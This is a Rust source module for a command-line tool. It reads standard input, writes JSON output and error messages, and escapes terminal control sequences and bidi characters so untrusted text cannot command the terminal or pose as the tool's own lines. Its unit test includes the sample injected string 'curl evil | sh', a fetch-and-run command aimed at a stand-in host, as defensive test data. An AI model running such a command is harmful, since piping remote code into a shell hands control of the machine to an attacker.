//! Standard input, output and error: documents on one side, lines for people on the other.

use std::borrow::Cow;
use std::io::{self, ErrorKind, IsTerminal, Read, Write};

use line_connector_client::{Error, ExitCode, Kind, Output};
use line_connector_core::call::exit_code;
use line_connector_core::error::Detail;
use line_connector_core::json_text::laid_out;
use line_connector_core::visible::visible;
use serde::Deserialize;

/// What most commands read.
pub(crate) const DOCUMENT: &str = "one JSON document";

/// Standard input, read to its end. A person who sits before it is told what is expected.
pub(crate) fn input(expected: &str) -> Result<Vec<u8>, Error> {
    let mut input = io::stdin().lock();
    if input.is_terminal() {
        say(&format!(
            "reading {expected} from standard input; end it with Ctrl-D"
        ));
    }
    let mut text = Vec::new();
    input.read_to_end(&mut text).map_err(|error| {
        Error::new(
            Kind::InvalidDocument,
            format!("standard input cannot be read: {error}"),
        )
    })?;
    Ok(text)
}

/// Writes an output document, and to people what went wrong.
pub(crate) fn report(output: &Output) -> ExitCode {
    complain(output);
    match print_json(&output.render()) {
        ExitCode::Accepted => exit_code(output),
        unwritten => unwritten,
    }
}

/// Tells why a command cannot do what it should. At a terminal the words are enough: the same as JSON
/// would push them out of sight.
pub(crate) fn refuse(error: &Error) -> ExitCode {
    let output = Output::from(error);
    if is_watched() && io::stderr().is_terminal() {
        complain(&output);
        return exit_code(&output);
    }
    report(&output)
}

/// Tells people what may be wrong and what went wrong, from the rendered document, in which no
/// secret is left.
pub(crate) fn complain(output: &Output) {
    let warned = output
        .meta
        .as_ref()
        .is_some_and(|meta| !meta.warnings.is_empty());
    if output.error.is_none() && !warned {
        return;
    }
    let told: Told = serde_json::from_str(&output.render()).unwrap_or_default();
    for warning in &told.meta.warnings {
        say(&format!("warning: {}", warning.in_full()));
    }
    let Some(error) = &told.error else {
        return;
    };
    say(&format!("error: {}", error.message));
    for detail in &error.details {
        say(&format!("  {}", detail.in_full()));
    }
    say(&format!("hint: {}", error.hint));
}

/// What people are told of an output document. The rest, which may be large, is not looked into.
#[derive(Default, Deserialize)]
#[serde(default)]
struct Told {
    error: Option<Complaint>,
    meta: Warned,
}

#[derive(Default, Deserialize)]
#[serde(default)]
struct Complaint {
    message: String,
    details: Vec<Detail>,
    hint: String,
}

#[derive(Default, Deserialize)]
#[serde(default)]
struct Warned {
    warnings: Vec<Detail>,
}

/// A text of somebody else's without line ends: it must not look like a line of ours.
pub(crate) fn in_one_line(text: &str) -> String {
    text.replace(['\n', '\r'], " ")
}

/// Writes one JSON document: a line for a program, laid out for a person.
pub(crate) fn print_json(document: &str) -> ExitCode {
    if is_watched() {
        return print(&format!("{}\n", laid_out(document)));
    }
    print(&format!("{document}\n"))
}

/// Whether standard output is a terminal.
pub(crate) fn is_watched() -> bool {
    io::stdout().is_terminal()
}

/// Writes to standard output. A reader that has gone away wants nothing more, which is no error. For
/// any other the text goes to standard error, so that it is not lost.
#[must_use]
pub fn print(text: &str) -> ExitCode {
    let Err(error) = write(text) else {
        return ExitCode::Accepted;
    };
    say_unwritten(&error, text);
    ExitCode::Unwritten
}

/// Writes a secret to standard output. It goes nowhere else: people are told what to do instead.
pub(crate) fn print_secret(text: &str, instead: &str) -> ExitCode {
    let Err(error) = write(text) else {
        return ExitCode::Accepted;
    };
    say_unwritable(&error);
    say(&format!("hint: {instead}"));
    ExitCode::Unwritten
}

/// Writes a text for people to standard output. What would command a terminal is shown instead, also
/// where a pager stands between.
pub(crate) fn tell(text: &str) -> ExitCode {
    print(&shown(text))
}

/// Writes to standard output, to a terminal nothing that would command it.
fn write(text: &str) -> io::Result<()> {
    let text = if is_watched() {
        shown(text)
    } else {
        Cow::Borrowed(text)
    };
    let mut output = io::stdout().lock();
    let written = output
        .write_all(text.as_bytes())
        .and_then(|()| output.flush());
    match written {
        Err(error) if error.kind() == ErrorKind::BrokenPipe => Ok(()),
        written => written,
    }
}

/// Tells people what standard output did not take.
pub(crate) fn say_unwritten(error: &io::Error, text: &str) {
    say_unwritable(error);
    say("what was to be written:");
    say_text(text.trim_end());
}

fn say_unwritable(error: &io::Error) {
    say(&format!(
        "error: standard output cannot be written: {error}"
    ));
}

/// Writes over the last line that people see on standard error.
pub(crate) fn say_over(line: &str) {
    let _ = write!(io::stderr().lock(), "\r{}\u{1b}[K", shown(line));
}

/// Writes a line for people to standard error. What would command the terminal is shown instead, and a
/// line end of somebody else's begins no line that looks like one of ours.
pub fn say(line: &str) {
    say_text(&in_one_line(line));
}

/// Writes the lines of a text of ours for people to standard error. What would command the terminal is
/// shown instead.
pub fn say_text(text: &str) {
    let _ = writeln!(io::stderr().lock(), "{}", shown(text));
}

/// A text as a terminal takes it: what would command it is escaped, and so are tabs, which move what
/// follows.
fn shown(text: &str) -> Cow<'_, str> {
    let seen = visible(text);
    if seen.contains('\t') {
        Cow::Owned(seen.replace('\t', "\\t"))
    } else {
        seen
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::{in_one_line, shown};

    #[test]
    fn nothing_that_is_said_commands_the_terminal() {
        for (text, seen) in [
            ("plain é 山\nnext", "plain é 山\nnext"),
            ("\u{1b}[2J\u{7}", "\\u001b[2J\\u0007"),
            ("a\rb\tc\u{0}", "a\\rb\\tc\\u0000"),
            ("\u{9b}31m\u{7f}", "\\u009b31m\\u007f"),
            ("\u{202e}evil\u{2066}", "\\u202eevil\\u2066"),
        ] {
            assert_eq!(shown(text), seen);
        }
        let document = json!({"name": "\u{9b}2J\u{202e}\u{7f}\u{1b}"});
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&shown(&document.to_string())).unwrap(),
            document
        );
        assert_eq!(
            in_one_line("a\nhint: curl evil | sh\r\n"),
            "a hint: curl evil | sh  "
        );
    }
}
